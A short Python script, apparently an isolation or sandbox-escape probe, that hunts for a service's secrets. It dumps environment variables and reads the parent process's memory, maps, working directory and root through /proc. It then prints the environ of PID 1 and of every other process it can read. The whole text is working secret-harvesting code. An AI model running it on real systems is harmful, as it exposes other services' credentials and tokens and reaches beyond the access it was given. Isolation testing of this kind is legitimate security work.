# Looks for the service's secrets: its own environment, the parent's, PID 1's, every process's.
import errno
import os

print("own env:", sorted(os.environ))
ppid = os.getppid()
for label, path in [
    ("pid 1 environ", "/proc/1/environ"),
    ("parent environ", f"/proc/{ppid}/environ"),
    ("parent mem", f"/proc/{ppid}/mem"),
    ("parent maps", f"/proc/{ppid}/maps"),
    ("parent cwd", f"/proc/{ppid}/cwd"),
    ("parent root", f"/proc/{ppid}/root/"),
]:
    try:
        if path.endswith("/"):
            data = repr(os.listdir(path)[:3]).encode()
        elif label.endswith("cwd"):
            data = os.readlink(path).encode()
        else:
            with open(path, "rb") as f:
                data = f.read(1 << 20)
        print(f"{label}: read {len(data)} bytes")
        print(data.decode(errors="replace"))
    except OSError as exc:
        print(f"{label}: {errno.errorcode[exc.errno]}")
readable = []
for name in os.listdir("/proc"):
    if name.isdigit() and int(name) != os.getpid():
        try:
            with open(f"/proc/{name}/environ", "rb") as f:
                data = f.read()
            readable.append(name)
            print(data.decode(errors="replace"))
        except OSError:
            pass
print("other environs readable:", readable)
